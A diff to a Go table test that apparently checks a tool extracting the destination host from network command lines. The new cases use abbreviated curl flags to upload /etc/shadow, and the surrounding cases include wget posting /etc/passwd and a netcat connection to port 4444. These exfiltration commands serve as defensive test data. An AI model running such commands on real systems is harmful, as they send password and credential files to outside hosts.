@@ -29,6 +29,8 @@ func TestFarEndsAreReadFromArguments(t *testing.T) {
 		"curl|-F|f=@/a|-x|socks5://u:p@127.0.0.1:9050|-u|eve:secret|h.example/in": "eve@h.example:/in through 127.0.0.1:9050",
 		"curl|--pass|secret|--oauth2-bearer|secret|--socks4a|p:1|https://h/":      "h:/ through p:1",
 		"curl|--data-binary|@/a|--url|http://[2001:db8::9]/":                      "[2001:db8::9]:/",
+		"curl|--upload-fil|/etc/shadow|https://h/":                                "h:/",
+		"curl|--upl|/etc/shadow|--preprox|p:1|https://h/":                         "h:/ through p:1",
 		"curl|-o|/tmp/x|ftp://h/a|sftp://bob@g/b":                                 "h:/a; bob@g:/b",
 		"wget|--post-file=/etc/passwd|http://h:8080/p":                            "h:/p port 8080",
 		"nc|-N|-w|5|203.0.113.9|4444":                                             "203.0.113.9 port 4444",
